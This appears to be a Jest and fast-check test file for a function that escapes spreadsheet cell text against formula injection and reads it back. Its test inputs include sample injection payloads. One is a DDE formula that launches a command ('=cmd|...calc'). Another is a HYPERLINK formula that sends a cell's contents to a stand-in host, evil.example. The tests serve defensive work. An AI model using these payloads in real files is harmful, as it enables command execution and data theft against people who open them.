import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { harmlessText, readHarmlessText } from './harmless-text.js';

const SIGN = '[=+\\-@＝＋－＠]';

/** What a spreadsheet would take for a formula: at the beginning, or behind what separates cells. */
const isFormula = (text: string): boolean =>
  new RegExp(`^[\\t\\r\\n]|^[\\s\\p{Cf}]*${SIGN}`, 'u').test(text) ||
  new RegExp(`[;\\t\\r\\n](?:"|[\\s\\p{Cf}])*${SIGN}`, 'u').test(text);

const awkward = fc
  .array(
    fc.constantFrom(
      ...["'", "''", '=', '+', '-', '@', '＝', ';', '"', '\t', '\r', '\n', '\r\n', ' '],
      ...['\u00a0', '\u200b', '\ufeff', 'a', ',', '5', 'é', '🏉'],
    ),
    { maxLength: 12 },
  )
  .map((signs) => signs.join(''));

const texts = fc.oneof(
  { weight: 4, arbitrary: awkward },
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
);

describe('text in a cell', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tharmless by itself',
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    '@evil',
    '-5',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff \u2060@SUM(1)',
  ])('cannot become a formula: %j', (evil) => {
    expect(harmlessText(evil).startsWith("'")).toBe(true);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; ＠b', "a; '＠b"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n+1', "a\r\n'+1"],
    ['a\t-1', "a\t'-1"],
    ['a;"=1+1', `a;"'=1+1`],
    ['a\n"=1+1"', `a\n"'=1+1"`],
    ['a; "" =1+1', `a; "" '=1+1`],
    ['a;\u200b=1+1', "a;\u200b'=1+1"],
  ])('hides none from a spreadsheet that separates by another sign: %j', (evil, harmless) => {
    expect(harmlessText(evil)).toBe(harmless);
  });

  it.each([
    'Toulouse – Lyon',
    'a=b',
    'camille@example.org',
    '1-2',
    '{"a":[1,-5]}',
    '',
    'été; hiver',
    '"a"; "b=c"',
    "'t Hart",
    "a;'b",
  ])('stays as it is where it is none, also when it is read: %j', (said) => {
    expect(harmlessText(said)).toBe(said);
    expect(readHarmlessText(said)).toBe(said);
  });

  it.each([
    ["'=1", "''=1"],
    ["a;'=1", "a;''=1"],
  ])('has one more apostrophe where it has some already: %j', (said, harmless) => {
    expect(harmlessText(said)).toBe(harmless);
  });

  it('is read back exactly, and is never a formula, whatever it is', () => {
    fc.assert(
      fc.property(texts, (said) => {
        const harmless = harmlessText(said);
        expect(isFormula(harmless)).toBe(false);
        expect(readHarmlessText(harmless)).toBe(said);
      }),
      { numRuns: 5000 },
    );
  });

  it('is read back where a file changed its line ends', () => {
    const plain = (text: string): string => text.replaceAll(/\r\n?/g, '\n');
    fc.assert(
      fc.property(texts, (said) => {
        expect(readHarmlessText(plain(harmlessText(said)))).toBe(plain(said));
      }),
      { numRuns: 5000 },
    );
  });

  it('is written in no time, however long it is', () => {
    const long = '\n'.repeat(1_000_000);
    expect(readHarmlessText(harmlessText(long))).toBe(long);
    expect(readHarmlessText(harmlessText(`;${"'".repeat(1_000_000)}`))).toHaveLength(1_000_001);
  });
});
